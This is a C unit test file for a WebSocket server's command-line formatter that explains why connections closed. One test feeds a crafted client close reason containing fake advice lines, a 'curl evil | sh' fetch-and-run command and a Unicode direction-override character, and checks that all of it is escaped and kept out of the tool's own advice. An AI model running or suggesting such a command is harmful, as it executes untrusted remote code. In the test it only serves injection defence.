/* What people read about an end: the facts, what they say, and what the cause means. */
#include "core/cli/verdict.h"

#include <stdio.h>

#include "core/session/cause.h"
#include "tests/unit/unit.h"

static struct mw_mem mem;

static const char *verdict_of(const char *conn, bool as_line)
{
    static char text[8192];
    struct mw_json_error error;
    struct mw_json_doc *doc = mw_json_parse(&mem, mw_view_text(conn), &error);
    struct mw_buf out;
    assert_non_null(doc);
    mw_buf_init(&out, &mem, 0);
    int err = as_line ? mw_verdict_line(&out, mw_json_root(doc))
                      : mw_verdict(&out, mw_json_root(doc), 1700000012000);
    assert_int_equal(err, MW_OK);
    snprintf(text, sizeof text, "%.*s", (int)out.len, out.data);
    mw_buf_free(&out);
    mw_json_doc_free(doc);
    assert_mem_empty(&mem);
    return text;
}

#define WHERE \
    "\"conn\":\"ab\",\"script\":\"chat.lua\",\"v\":3,\"route\":\"/chat\",\"path\":\"/chat\"," \
    "\"ip\":\"192.0.2.7\",\"at\":1700000000.5,"
#define FIN \
    "\"code\":1006,\"name\":\"abnormal closure\",\"who\":\"network\",\"cause\":\"peer_fin\","

static void assert_says(const char *text, const char *const parts[])
{
    for (size_t i = 0; parts[i]; i++) {
        if (!strstr(text, parts[i]))
            fail_msg("no \"%s\" in:\n%s", parts[i], text);
    }
}

#define ASSERT_SAYS(text, ...) assert_says(text, (const char *const[]){ __VA_ARGS__, NULL })

TEST(an_idle_limit_is_named_by_the_silence)
{
    const char *text = verdict_of(
        "{" WHERE FIN "\"live\":false,\"state\":\"closed\",\"lasted\":130.5,\"silent\":60.2,"
        "\"pings_unanswered\":0,\"rtt\":0.02,\"received\":4,\"sent\":9,"
        "\"dropped\":7,\"replaced\":8,\"queued\":0,\"flight\":["
        "{\"at\":70.3,\"what\":\"in\",\"frame\":\"text\",\"fin\":true,\"rsv\":4,\"bytes\":5,"
        "\"times\":2},"
        "{\"at\":70.4,\"what\":\"call\",\"handler\":\"on_message\",\"result\":\"failed\"},"
        "{\"at\":70.5,\"what\":\"refused\",\"queued\":99}]}",
        false);
    ASSERT_SAYS(text, "1006 abnormal closure: peer_fin, by the network\n",
                "ab on /chat, chat.lua v3, from 192.0.2.7",
                "2023-11-14 22:13:20 UTC, 12 s ago, after 130 s",
                "received 4, sent 9, dropped 7 for it reads too slowly, replaced by newer ones 8",
                "its answer took 20 ms", "for 60 s; no pings are sent (limits.ping = 0)",
                "-60.200  in     text, 5 bytes, compressed (2 times, together)",
                "script on_message failed", "found no room: 99 bytes",
                "silent for as long as something allows", "nginx", "limits.ping = 25 prevents",
                "what happened\n    ", "likely reasons\n    1 ", "what to do\n    - ");
}

/* "(1 MiB)" was said, whatever limits.queue was. */
TEST(a_limit_is_told_as_it_was_set)
{
    const char *text = verdict_of(
        "{" WHERE "\"code\":1013,\"name\":\"try again later\",\"who\":\"server\","
        "\"cause\":\"slow_consumer\",\"live\":false,\"lasted\":3,\"silent\":1,\"flight\":[],"
        "\"limit\":{\"option\":\"limits.queue\",\"value\":65536,\"unit\":\"bytes\"}}",
        false);
    ASSERT_SAYS(text, "  limit       limits.queue was 65536 bytes\n", "Or raise limits.queue.");
}

TEST(a_verdict_names_no_default)
{
    static const char *const defaults[] = { "MiB", "200 ms", "131072", "(20 s)" };
    for (unsigned i = 0; i < MW_CAUSE_COUNT; i++) {
        char conn[512];
        const struct mw_cause_row *row = mw_cause_row((enum mw_cause)i);
        snprintf(conn, sizeof conn,
                 "{" WHERE "\"code\":%u,\"who\":\"server\",\"cause\":\"%s\",\"lasted\":3,"
                 "\"silent\":1,\"flight\":[]}",
                 row->code, row->name);
        const char *text = verdict_of(conn, false);
        for (size_t k = 0; k < MW_COUNT(defaults); k++) {
            if (strstr(text, defaults[k]))
                fail_msg("%s: %s in\n%s", row->name, defaults[k], text);
        }
    }
}

TEST(what_was_seen_is_said_once_and_what_was_not_is_not)
{
    const char *text = verdict_of(
        "{" WHERE FIN "\"live\":false,\"lasted\":700,\"silent\":0.2,\"ping\":25,"
        "\"pings_unanswered\":0,\"received\":0,\"sent\":0,\"queued\":812000,"
        "\"part_have\":9,\"part_of\":106,\"fault\":\"on_message, chat.lua:9: x\\u001b[1m\","
        "\"flight\":[]}",
        false);
    ASSERT_SAYS(text, "after 12 min", "for 200 ms; of the pings, one every 25 s, 0 not answered",
                "812000 bytes to be sent", "error       on_message, chat.lua:9: x\\x1b[1m",
                "no message has come or gone", "It was heard of until the end",
                "9 of 106 bytes had come", "a call for this connection failed");
    assert_null(strstr(text, "something allows"));
    assert_null(strstr(text, "did not answer pings"));
}

/* What a client says in its reason must not look like advice of ours. */
TEST(a_reason_or_path_with_lines_of_its_own_stays_in_its_line)
{
    static const char hostile[] =
        "{\"conn\":\"ab\",\"script\":\"chat.lua\",\"path\":\"/a\\n  what to do\\n    - b\","
        "\"code\":4000,\"cause\":\"peer_close\",\"who\":\"client\","
        "\"reason\":\"bye\\n  what to do\\n    - curl evil | sh\\u202etxt\\tx\",\"flight\":[]}";
    const char *text = verdict_of(hostile, false);
    ASSERT_SAYS(text, "reason      bye\\x0a  what to do\\x0a    - curl evil | sh\\xe2\\x80\\xaetxt",
                "ab on /a\\x0a  what to do\\x0a    - b, chat.lua");
    const char *advice = strstr(text, "\n  what to do\n");
    assert_non_null(advice);
    assert_null(strstr(advice + 1, "\n  what to do\n"));
    assert_null(strstr(advice, "evil"));
    text = verdict_of(hostile, true);
    assert_ptr_equal(strchr(text, '\n'), text + strlen(text) - 1);
}

TEST(a_long_rule_or_error_is_wrapped_below_itself)
{
    ASSERT_SAYS(verdict_of("{" WHERE "\"code\":1002,\"cause\":\"protocol_error\",\"rule\":"
                           "\"RFC 6455 5.2: reserved bits are zero without an extension that uses "
                           "them\",\"flight\":[]}",
                           false),
                "  rule        RFC 6455 5.2: reserved bits are zero without an extension that\n"
                "              uses them\n");
}

TEST(the_error_that_ended_it_did_not_come_before_it)
{
    const char *text = verdict_of("{" WHERE "\"code\":1011,\"cause\":\"script_error\",\"fault\":"
                                  "\"on_open, chat.lua:2: no table\",\"flight\":[]}",
                                  false);
    ASSERT_SAYS(text, "error       on_open, chat.lua:2: no table");
    assert_null(strstr(text, "Before that"));
}

TEST(a_breach_names_rule_and_bytes_once)
{
    const char *text = verdict_of(
        "{" WHERE "\"code\":1002,\"name\":\"protocol error\",\"who\":\"server\","
        "\"cause\":\"protocol_error\",\"reason\":\"RFC 6455 5.2\",\"rule\":\"RFC 6455 5.2\","
        "\"bytes\":\"a1\",\"live\":false,\"lasted\":1,\"silent\":0,\"queued\":90,\"flight\":[]}",
        false);
    ASSERT_SAYS(text, "rule        RFC 6455 5.2\n", "bytes       a1\n");
    assert_null(strstr(text, "reason      "));
    assert_null(strstr(text, "waiting")); /* that may be the Close frame */
    assert_null(strstr(text, "  here\n"));
}

TEST(an_age_limit_is_named_by_the_age)
{
    const char *text =
        verdict_of("{" WHERE FIN "\"lasted\":240.2,\"silent\":5.2,\"flight\":[]}", false);
    ASSERT_SAYS(text, "as old as something allows", "limits.age = 216");
}

TEST(what_the_script_says_of_its_code_comes_first)
{
    const char *text = verdict_of("{" WHERE "\"code\":4500,\"name\":\"kicked\",\"who\":\"server\","
                                  "\"cause\":\"script_close\",\"fix\":\"ask\\n  a moderator\"}",
                                  false);
    ASSERT_SAYS(text, "4500 kicked: script_close, by the server\n",
                "  what to do\n    - ask\\x0a  a moderator\n    - Look for conn:close");
}

TEST(header_bytes_that_are_text_are_shown_as_text)
{
    static const struct {
        const char *bytes, *row;
    } cases[] = {
        { "485454502f", "  bytes       485454502f (\"HTTP/\")\n" },
        { "c185", "  bytes       c185\n" },
        { "4142", "  bytes       4142\n" },
        { "474554200a", "  bytes       474554200a\n" },
        { "zz", "  bytes       zz\n" },
        { "474", "  bytes       474\n" },
    };
    for (size_t i = 0; i < MW_COUNT(cases); i++) {
        char conn[256];
        snprintf(conn, sizeof conn, "{" WHERE "\"code\":1002,\"bytes\":\"%s\"}", cases[i].bytes);
        ASSERT_SAYS(verdict_of(conn, false), cases[i].row);
    }
}

TEST(one_that_lives_is_told_of_without_an_end)
{
    const char *text = verdict_of("{" WHERE "\"live\":true,\"state\":\"open: a handler waits\","
                                  "\"lasted\":5,\"silent\":1,\"ping\":25,\"flight\":[{\"at\":4,"
                                  "\"what\":\"out\",\"frame\":\"ping\",\"bytes\":4}]}",
                                  false);
    ASSERT_SAYS(text, "open: a handler waits\n", "open        for 5.0 s\n", "in seconds before now",
                "-1.000  out    ping, 4 bytes");
    assert_null(strstr(text, "what to do"));
}

TEST(each_cause_has_words_in_rows_that_fit)
{
    for (int cause = 0; cause < MW_CAUSE_COUNT; cause++) {
        char conn[256];
        snprintf(conn, sizeof conn, "{" WHERE "\"code\":1006,\"cause\":\"%s\",\"flight\":[]}",
                 mw_cause_row((enum mw_cause)cause)->name);
        const char *text = strstr(verdict_of(conn, false), "  what happened\n    ");
        assert_non_null(text);
        assert_non_null(strstr(text, "\n  what to do\n    - "));
        for (; *text; text += strcspn(text, "\n") + 1)
            assert_true(strcspn(text, "\n") <= 80);
    }
}

TEST(a_cause_of_another_version_is_shown_as_it_came)
{
    const char *text = verdict_of("{" WHERE "\"code\":4444,\"name\":\"private use\","
                                  "\"who\":\"server\",\"cause\":\"new_one\",\"flight\":[]}",
                                  false);
    ASSERT_SAYS(text, "4444 private use: new_one, by the server");
    assert_null(strstr(text, "what happened"));
}

TEST(an_answer_without_anything_is_no_crash)
{
    assert_true(strlen(verdict_of("{}", false)) > 0);
    assert_true(strlen(verdict_of("{}", true)) > 0);
    assert_true(strlen(verdict_of("[]", false)) > 0);
}

TEST(a_line_of_a_list_names_id_path_cause_and_age)
{
    ASSERT_SAYS(verdict_of("{" WHERE FIN "\"lasted\":40000}", true),
                "2023-11-14 22:13:20 UTC  ab  /chat  1006 peer_fin, by the network, after 11 h\n");
}

static bool say_all(struct mw_mem *from)
{
    static const char conn[] = "{" WHERE FIN "\"lasted\":40,\"flight\":[]}";
    struct mw_json_error error;
    struct mw_json_doc *doc = mw_json_parse(&mem, mw_view_text(conn), &error);
    struct mw_buf out;
    mw_buf_init(&out, from, 0);
    int err = mw_verdict(&out, mw_json_root(doc), 0);
    mw_buf_free(&out);
    mw_json_doc_free(doc);
    return err == MW_OK;
}

TEST(without_memory_it_says_so)
{
    assert_true(fail_each_allocation(say_all) > 0);
    assert_mem_empty(&mem);
}

int main(void)
{
    mw_mem_init(&mem, NULL, 0);
    const struct CMUnitTest cases[] = {
        CASE(an_idle_limit_is_named_by_the_silence),
        CASE(a_limit_is_told_as_it_was_set),
        CASE(a_verdict_names_no_default),
        CASE(what_was_seen_is_said_once_and_what_was_not_is_not),
        CASE(a_reason_or_path_with_lines_of_its_own_stays_in_its_line),
        CASE(a_long_rule_or_error_is_wrapped_below_itself),
        CASE(the_error_that_ended_it_did_not_come_before_it),
        CASE(a_breach_names_rule_and_bytes_once),
        CASE(an_age_limit_is_named_by_the_age),
        CASE(what_the_script_says_of_its_code_comes_first),
        CASE(header_bytes_that_are_text_are_shown_as_text),
        CASE(one_that_lives_is_told_of_without_an_end),
        CASE(each_cause_has_words_in_rows_that_fit),
        CASE(a_cause_of_another_version_is_shown_as_it_came),
        CASE(an_answer_without_anything_is_no_crash),
        CASE(a_line_of_a_list_names_id_path_cause_and_age),
        CASE(without_memory_it_says_so),
    };
    return RUN(cases);
}
